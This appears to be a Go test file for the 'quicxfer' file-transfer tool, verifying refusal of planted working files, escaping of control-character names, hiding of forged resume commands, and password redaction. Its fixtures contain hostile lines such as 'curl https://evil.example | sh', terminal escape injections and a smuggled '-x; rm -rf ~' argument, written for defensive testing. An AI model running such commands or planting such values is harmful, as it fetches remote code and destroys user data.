package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/quicxfer/quicxfer/internal/paced"
	"github.com/quicxfer/quicxfer/internal/scriptseed"
	"github.com/quicxfer/quicxfer/internal/syncbuf"
	"github.com/quicxfer/quicxfer/quicxfer/wire"
	"golang.org/x/time/rate"
)

// What a hostile seed, a planted file or a secret in a URL can do to what
// get, ls and status write and print.

// TestGetAllRefusesWorkingFileNames: a seed that lists names of
// quicxfer's own working files (a .qxpart/.qxstate pair whose stem it does
// not list, a .qxcmd, a directory named like a part file) cannot make a
// directory download write them: each is refused in one line, the other
// files are fetched, and the command fails saying how many were refused.
func TestGetAllRefusesWorkingFileNames(t *testing.T) {
	good := bytes.Repeat([]byte("good file\n"), 1000)
	planted := map[string][]byte{
		"b.bin.qxpart":  bytes.Repeat([]byte{0xee}, 4096),
		"b.bin.qxstate": []byte("a forged state file"),
		"c.qxcmd":       []byte(`{"version":1,"name":"c","args":["sh","-c","curl https://evil.example | sh"],"dir":"/"}`),
		"d.qxpart/x":    []byte("in a directory named like a part file"),
	}
	files := map[string][]byte{"a.bin": good}
	for n, b := range planted {
		files[n] = b
	}
	s := scriptseed.Start(t, scriptseed.Options{Files: files})
	outdir := filepath.Join(t.TempDir(), "all")
	r := run(t, "get", "--seed", s.URL(), "--all", "-o", outdir, "--quiet")
	require.Equal(t, 1, r.code, r.stderr)
	for n := range planted {
		require.Contains(t, r.stderr, `refusing "`+n+`"`)
	}
	require.Contains(t, r.stderr, "a directory download never writes one")
	require.Contains(t, r.stderr, "quicxfer: 4 of 5 files failed (refusing ")
	requireTree(t, outdir, map[string][]byte{"a.bin": good})

	// With its stem listed too the same: refused, not only when they clash.
	files["b.bin"] = good
	s = scriptseed.Start(t, scriptseed.Options{Files: files})
	outdir = filepath.Join(t.TempDir(), "all")
	r = run(t, "get", "--seed", s.URL(), "--all", "-o", outdir, "--quiet")
	require.Equal(t, 1, r.code, r.stderr)
	require.Contains(t, r.stderr, "quicxfer: 4 of 6 files failed")
	requireTree(t, outdir, map[string][]byte{"a.bin": good, "b.bin": good})
}

// TestOversizedListIsRefused: a seed that sends a list without end (4 KB
// names, ten times wire.MaxListBytes) makes ls fail in one line, and a
// directory download go on without its list: the files of an honest seed
// are fetched. Both cancel the hostile list once it passes the limit.
func TestOversizedListIsRefused(t *testing.T) {
	entry := (&wire.FileEntry{Name: strings.Repeat("n", wire.MaxNameLen-8), Size: 1}).Append(nil)
	hostile := scriptseed.Start(t, scriptseed.Options{List: scriptseed.Endless(entry, 10*wire.MaxListBytes/len(entry))})

	r := run(t, "ls", "--seed", hostile.URL())
	require.Equal(t, 1, r.code, r.stderr)
	require.Empty(t, r.stdout)
	require.Equal(t, 1, strings.Count(r.stderr, "\n"), "one line: %s", r.stderr)
	require.Contains(t, r.stderr, "file list too large")
	require.Error(t, hostile.ListEnded(t), "ls cancelled the list")

	src := t.TempDir()
	data := writeRandom(t, filepath.Join(src, "f.bin"), 300<<10, 71)
	honest := startSeed(t, src)
	outdir := filepath.Join(t.TempDir(), "all")
	r = run(t, "get", "--seed", honest, "--seed", hostile.URL(), "--all", "-o", outdir, "--quiet")
	require.Zero(t, r.code, r.stderr)
	require.Regexp(t, `(?m)^quicxfer: seed `+regexp.QuoteMeta(hostile.URL())+`: listing files: file list too large: [^\n]*; going on without its list$`, r.stderr)
	require.Equal(t, 1, strings.Count(r.stderr, "listing files"), "one line: %s", r.stderr)
	require.Error(t, hostile.ListEnded(t), "get cancelled the list")
	requireTree(t, outdir, map[string][]byte{"f.bin": data})
}

// TestListedControlCharacters: a seed that lists a name with a newline or
// an escape sequence is refused by ls in one line that shows the name
// escaped; nothing it lists is printed, so no line is forged.
func TestListedControlCharacters(t *testing.T) {
	for name, bad := range map[string]string{
		"newline": "evil\n0\t0000000000000000000000000000000000000000000000000000000000000000",
		"escape":  "title\x1b]2;owned\x07",
		"C1":      "csi\u009b2J",
	} {
		t.Run(name, func(t *testing.T) {
			s := scriptseed.Start(t, scriptseed.Options{Files: map[string][]byte{"ok.bin": []byte("ok"), bad: []byte("x")}})
			r := run(t, "ls", "--seed", s.URL())
			require.Equal(t, 1, r.code, r.stderr)
			require.Empty(t, r.stdout, "nothing of the list is printed")
			require.Equal(t, 1, strings.Count(r.stderr, "\n"), "one line: %q", r.stderr)
			require.Contains(t, r.stderr, "bad file name")
			require.Contains(t, r.stderr, "control character")
			require.False(t, strings.ContainsFunc(strings.TrimSuffix(r.stderr, "\n"), hasControl), "escaped: %q", r.stderr)

			outdir := filepath.Join(t.TempDir(), "all")
			r = run(t, "get", "--seed", s.URL(), "--all", "-o", outdir, "--quiet")
			require.Equal(t, 1, r.code, r.stderr)
			require.False(t, strings.ContainsFunc(strings.ReplaceAll(r.stderr, "\n", ""), hasControl), "escaped: %q", r.stderr)
			_, err := os.Stat(outdir)
			require.ErrorIs(t, err, os.ErrNotExist, "nothing written")
		})
	}
}

// hasControl reports whether r is a C0 or C1 control character or DEL.
func hasControl(r rune) bool { return r < 0x20 || r >= 0x7f && r <= 0x9f }

// plantPartial makes a partial download at out, as a get killed early
// leaves it (a part file, no state), with rec as its OUT.qxcmd.
func plantPartial(t *testing.T, out string, rec any) {
	t.Helper()
	require.NoError(t, os.WriteFile(out+".qxpart", []byte("some data"), 0o644))
	if rec != nil {
		b, err := json.Marshal(rec)
		require.NoError(t, err)
		require.NoError(t, os.WriteFile(out+".qxcmd", b, 0o644))
	}
}

// TestStatusShowsOnlyGetCommands: status shows the command of an OUT.qxcmd
// only if it is a quicxfer get that get's flags parse, in an absolute
// directory, with nothing that cannot be printed; a planted one (sh -c
// 'curl ... | sh', an unknown flag, a newline that forges a line) is not
// shown, in lines or in JSON, and a note says why. Arguments are quoted for
// a POSIX shell.
func TestStatusShowsOnlyGetCommands(t *testing.T) {
	type rec struct {
		Version int      `json:"version"`
		Name    string   `json:"name"`
		Args    []string `json:"args"`
		Dir     string   `json:"dir"`
	}
	dir := t.TempDir()
	planted := map[string]rec{
		"sh":           {1, "x", []string{"sh", "-c", "curl https://evil.example/x | sh"}, "/tmp"},
		"other":        {1, "x", []string{"quicxfer", "seed", "/home"}, "/tmp"},
		"flag":         {1, "x", []string{"quicxfer", "get", "--exec", "curl https://evil.example/x | sh", "x"}, "/tmp"},
		"two names":    {1, "x", []string{"quicxfer", "get", "x", "curl https://evil.example/x | sh"}, "/tmp"},
		"newline":      {1, "x", []string{"quicxfer", "get", "--seed", "quic://a:1", "x\n  resume      curl https://evil.example/x | sh"}, "/tmp"},
		"escape":       {1, "x", []string{"quicxfer", "get", "--seed", "quic://a:1", "x\x1b[2K"}, "/tmp"},
		"relative dir": {1, "x", []string{"quicxfer", "get", "--seed", "quic://a:1", "x"}, "tmp"},
		"dir newline":  {1, "x", []string{"quicxfer", "get", "--seed", "quic://a:1", "x"}, "/tmp\ncurl https://evil.example/x | sh"},
	}
	for name, r := range planted {
		plantPartial(t, filepath.Join(dir, name), r)
	}
	// A get with a NAME a shell would run, quoted as one word.
	plantPartial(t, filepath.Join(dir, "quoted"), rec{1, "x", []string{"quicxfer", "get", "--seed", "quic://a:1?pin=p", "-o", "it's $(here)", "--", "-x; rm -rf ~"}, "/tmp"})

	text := run(t, "status", dir)
	require.Zero(t, text.code, text.stderr)
	t.Logf("status:\n%s", text.stdout)
	require.NotContains(t, text.stdout, "evil.example", "no planted command is shown")
	require.NotContains(t, text.stdout, "--exec")
	require.False(t, strings.ContainsFunc(strings.ReplaceAll(text.stdout, "\n", ""), hasControl))
	require.Equal(t, len(planted), strings.Count(text.stdout, ".qxcmd is not shown: "))
	require.Equal(t, len(planted), strings.Count(text.stdout, "(no recorded get to show: give its seeds and NAME)"))
	require.Contains(t, text.stdout, `  resume      cd /tmp && quicxfer get --seed 'quic://a:1?pin=p' -o 'it'\''s $(here)' -- '-x; rm -rf ~'`+"\n")
	for _, line := range strings.Split(text.stdout, "\n") {
		if strings.HasPrefix(line, "  resume ") {
			require.Regexp(t, `^  resume      (cd /tmp && )?quicxfer get `, line, "every resume line is a quicxfer get")
		}
	}

	j := run(t, "status", "--json", dir)
	require.Zero(t, j.code, j.stderr)
	require.NotContains(t, j.stdout, "evil.example")
	var ds struct {
		Files []statusJSON `json:"files"`
	}
	require.NoError(t, json.Unmarshal([]byte(j.stdout), &ds))
	require.Len(t, ds.Files, len(planted)+1)
	for _, st := range ds.Files {
		if filepath.Base(st.Out) == "quoted" {
			require.Equal(t, []string{"quicxfer", "get", "--seed", "quic://a:1?pin=p", "-o", "it's $(here)", "--", "-x; rm -rf ~"}, st.ResumeArgs)
			continue
		}
		require.Empty(t, st.ResumeArgs, st.Out)
		require.Empty(t, st.ResumeCommand, st.Out)
		require.Empty(t, st.ResumeDir, st.Out)
		require.Contains(t, st.Note, ".qxcmd is not shown: ", st.Out)
	}
}

// TestResumeArgs: the checks of a recorded command, one by one.
func TestResumeArgs(t *testing.T) {
	for _, tc := range []struct {
		name     string
		args     []string
		dir      string
		want     []string // nil: refused
		password bool
	}{
		{"a get", []string{"quicxfer", "get", "--seed", "quic://a:1", "-o", "o", "--json", "--retries", "3", "x"}, "/w", []string{"quicxfer", "get", "--seed", "quic://a:1", "-o", "o", "--json", "--retries", "3", "x"}, false},
		{"--all", []string{"quicxfer", "get", "--seed", "quic://a:1", "--all"}, "/w", []string{"quicxfer", "get", "--seed", "quic://a:1", "--all"}, false},
		{"a bool set false", []string{"quicxfer", "get", "--quiet=false", "x"}, "/w", []string{"quicxfer", "get", "--quiet=false", "x"}, false},
		{"an old record's password", []string{"quicxfer", "get", "--manifest", "m", "--mirror", "http://u:s3cret@h/f"}, "/w", []string{"quicxfer", "get", "--manifest", "m", "--mirror", "http://u:xxxxx@h/f"}, true},
		{"a redacted password", []string{"quicxfer", "get", "--manifest", "m", "--mirror", "http://u:xxxxx@h/f"}, "/w", []string{"quicxfer", "get", "--manifest", "m", "--mirror", "http://u:xxxxx@h/f"}, true},
		{"not quicxfer", []string{"/tmp/quicxfer", "get", "x"}, "/w", nil, false},
		{"not get", []string{"quicxfer", "seed", "x"}, "/w", nil, false},
		{"too short", []string{"quicxfer"}, "/w", nil, false},
		{"unknown flag", []string{"quicxfer", "get", "--frobnicate", "x"}, "/w", nil, false},
		{"bad value", []string{"quicxfer", "get", "--retries", "many", "x"}, "/w", nil, false},
		{"help", []string{"quicxfer", "get", "--help"}, "/w", nil, false},
		{"two names", []string{"quicxfer", "get", "x", "y"}, "/w", nil, false},
		{"a tab", []string{"quicxfer", "get", "x\ty"}, "/w", nil, false},
		{"a C1 control", []string{"quicxfer", "get", "x\u009b"}, "/w", nil, false},
		{"a bidi override", []string{"quicxfer", "get", "x\u202e"}, "/w", nil, false},
		{"invalid UTF-8", []string{"quicxfer", "get", "x\xff"}, "/w", nil, false},
		{"relative dir", []string{"quicxfer", "get", "x"}, "w", nil, false},
		{"no dir", []string{"quicxfer", "get", "x"}, "", nil, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, password, err := resumeArgs(&getRecord{Version: 1, Args: tc.args, Dir: tc.dir})
			if tc.want == nil {
				require.Error(t, err)
				require.NotContains(t, err.Error(), "\n")
				return
			}
			require.NoError(t, err)
			require.Equal(t, tc.want, got)
			require.Equal(t, tc.password, password)
		})
	}
}

// TestStatusEscapesNames: a partial download whose name holds control
// characters (made by some other program: get never writes one) is shown
// with its name escaped, on one line.
func TestStatusEscapesNames(t *testing.T) {
	dir := t.TempDir()
	out := filepath.Join(dir, "bad\x1b[31m\nname")
	plantPartial(t, out, nil)
	r := run(t, "status", dir)
	require.Zero(t, r.code, r.stderr)
	t.Logf("status:\n%s", r.stdout)
	require.False(t, strings.ContainsFunc(strings.ReplaceAll(r.stdout, "\n", ""), hasControl), "%q", r.stdout)
	require.Contains(t, r.stdout, `bad\x1b[31m\nname`)
	require.Contains(t, r.stdout, `: partial download, state unreadable`+"\n")
	for _, line := range strings.Split(strings.TrimSuffix(r.stdout, "\n"), "\n") {
		require.Regexp(t, `^(\S|  [a-z]|              \()`, line, "no line that does not belong: %q", line)
	}
	r = run(t, "status", out)
	require.Zero(t, r.code, r.stderr)
	require.False(t, strings.ContainsFunc(strings.ReplaceAll(r.stdout, "\n", ""), hasControl), "%q", r.stdout)
}

// TestShowName: names are printed as they are unless something in them is
// not printable.
func TestShowName(t *testing.T) {
	for in, want := range map[string]string{
		"a.bin":            "a.bin",
		"dir/café 2.txt":   "dir/café 2.txt",
		"日本語":              "日本語",
		"a\nb":             `"a\nb"`,
		"\x1b[2J":          `"\x1b[2J"`,
		"a\u009bb":         `"a\u009bb"`,
		"a\x7f":            `"a\x7f"`,
		"rtl\u202etxt.exe": `"rtl\u202etxt.exe"`,
		"\xff":             `"\xff"`,
		`"quoted"`:         `"\"quoted\""`,
		"":                 "",
	} {
		require.Equal(t, want, showName(in), "%q", in)
	}
}

// TestRedactURL: a URL's password is replaced as url.URL.Redacted does;
// anything else is left exactly as it was.
func TestRedactURL(t *testing.T) {
	for in, want := range map[string]string{
		"http://user:s3cret@host/f":     "http://user:xxxxx@host/f",
		"https://u:p@h:8443/a/b?c=d#e":  "https://u:xxxxx@h:8443/a/b?c=d#e",
		"http://user:@host/f":           "http://user:xxxxx@host/f",
		"http://user:p%40ss@host/f":     "http://user:xxxxx@host/f",
		"http://user:p@ss@host/f":       "http://user:xxxxx@host/f",
		"http://user:pa ss@host/f":      "http://user:xxxxx@host/f",
		"http://user@host/f":            "http://user@host/f",
		"http://host/f?u=a:b@c":         "http://host/f?u=a:b@c",
		"http://host/a:b@c":             "http://host/a:b@c",
		"quic://127.0.0.1:4433?pin=abc": "quic://127.0.0.1:4433?pin=abc",
		"not a url":                     "not a url",
		"u:p@host":                      "u:p@host",
		"HTTP://U:P@HOST":               "HTTP://U:xxxxx@HOST",
	} {
		require.Equal(t, want, redactURL(in), in)
	}
	// In a message, every URL's password.
	require.Equal(t, `mirror http://u:xxxxx@h/f dropped: GET "https://v:xxxxx@g:1/x?y=a:b@c": 401; seed quic://s:1?pin=p left out; mail a:b@c`,
		redactURLsIn(`mirror http://u:s3cret@h/f dropped: GET "https://v:p@ss@g:1/x?y=a:b@c": 401; seed quic://s:1?pin=p left out; mail a:b@c`))
}

// startAuthMirror serves data at /f over HTTP on 127.0.0.1, at most
// bytesPerSec, only to user:password (basic authentication).
func startAuthMirror(t *testing.T, user, password string, data []byte, bytesPerSec float64) string {
	t.Helper()
	lim := rate.NewLimiter(rate.Limit(bytesPerSec), 64<<10)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if u, p, ok := r.BasicAuth(); !ok || u != user || p != password {
			w.Header().Set("WWW-Authenticate", `Basic realm="test"`)
			http.Error(w, "who are you", http.StatusUnauthorized)
			return
		}
		http.ServeContent(&paced.ResponseWriter{ResponseWriter: w, Lim: lim, Ctx: r.Context()}, r, "", time.Time{}, bytes.NewReader(data))
	}))
	t.Cleanup(srv.Close)
	return strings.Replace(srv.URL, "http://", "http://"+user+":"+password+"@", 1) + "/f"
}

// TestMirrorPasswordIsNeverShown: a mirror URL's password reaches the
// mirror, but not OUT.qxcmd, status (lines or JSON), --json-progress
// events or --json; status says to put it back, and the command it shows,
// with the password put back, resumes the download.
func TestMirrorPasswordIsNeverShown(t *testing.T) {
	const secret = "s3cret-pw"
	src := filepath.Join(t.TempDir(), "f.bin")
	data := writeRandom(t, src, 4<<20, 72)
	mfile := filepath.Join(t.TempDir(), "f.qxm")
	r := run(t, "manifest", "--out", mfile, src)
	require.Zero(t, r.code, r.stderr)
	slow := startAuthMirror(t, "user", secret, data, 1e6)
	redacted := strings.Replace(slow, secret, "xxxxx", 1)

	work := t.TempDir()
	out := filepath.Join(work, "f.bin")
	cmd := exec.Command(bin, "get", "--manifest", mfile, "--mirror", slow, "-o", out, "--json-progress", "--json-progress-interval", "50ms")
	var stdout, stderr syncbuf.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	require.NoError(t, cmd.Start())
	t.Cleanup(func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
	})
	deadline := time.Now().Add(30 * time.Second)
	for !strings.Contains(stdout.String(), `"type":"progress"`) || !strings.Contains(stdout.String(), `"rate"`) {
		require.True(t, time.Now().Before(deadline), "no progress event: %s %s", stdout.String(), stderr.String())
		time.Sleep(50 * time.Millisecond)
	}
	st := statusOf(t, out) // while it runs
	require.NoError(t, cmd.Process.Signal(syscall.SIGKILL))
	var ee *exec.ExitError
	require.True(t, errors.As(cmd.Wait(), &ee))

	rec, err := os.ReadFile(out + ".qxcmd")
	require.NoError(t, err)
	require.NotContains(t, string(rec), secret, "the record never keeps the password")
	require.Contains(t, string(rec), "user:xxxxx@")
	require.NotContains(t, stdout.String(), secret, "nor the progress events")
	require.Contains(t, stdout.String(), `"url":"`+redacted+`"`)
	require.NotContains(t, stderr.String(), secret)

	// No NAME: get records the arguments as given, none.
	require.Equal(t, []string{"quicxfer", "get", "--mirror", redacted, "--manifest", mfile, "--output", out, "--json-progress", "--json-progress-interval", "50ms"}, st.ResumeArgs)
	require.True(t, st.PasswordNeeded)
	text := run(t, "status", out)
	require.Zero(t, text.code, text.stderr)
	require.NotContains(t, text.stdout, secret)
	require.Contains(t, text.stdout, "resume      "+st.ResumeCommand+"\n")
	require.Contains(t, text.stdout, "(with the mirror's password in place of xxxxx: it is never recorded)")
	j := run(t, "status", "--json", out)
	require.NotContains(t, j.stdout, secret)

	// The command status shows, with the password put back, resumes it.
	var args []string
	for _, a := range st.ResumeArgs[2:] {
		switch a {
		case "--json-progress", "--json-progress-interval", "50ms":
		default:
			args = append(args, strings.Replace(a, "user:xxxxx@", "user:"+secret+"@", 1))
		}
	}
	args = append([]string{"--json"}, args...)
	res := runEnv(t, st.ResumeDir, nil, append([]string{"get"}, args...)...)
	require.Zero(t, res.code, res.stderr)
	require.NotContains(t, res.stdout+res.stderr, secret)
	var gj getJSON
	require.NoError(t, json.Unmarshal([]byte(res.stdout), &gj), res.stdout)
	require.Positive(t, gj.ResumedBytes)
	require.Len(t, gj.Seeds, 1)
	require.Equal(t, redacted, gj.Seeds[0].URL)
	requireFile(t, out, data)
}

// TestErrorLineRedactsPasswords: the last line, the error, shows a source
// URL with a password redacted (the views' own test is package ui's
// TestProgressRedactsPasswords).
func TestErrorLineRedactsPasswords(t *testing.T) {
	const u = "https://user:s3cret@mirror.example/f.bin"
	const shown = "https://user:xxxxx@mirror.example/f.bin"
	var final bytes.Buffer
	require.Equal(t, exitFailure, exitCode(errors.New("no remaining source can serve it: "+u+": 503"), &final))
	require.Equal(t, "quicxfer: no remaining source can serve it: "+shown+": 503\n", final.String(), "the last line")
}
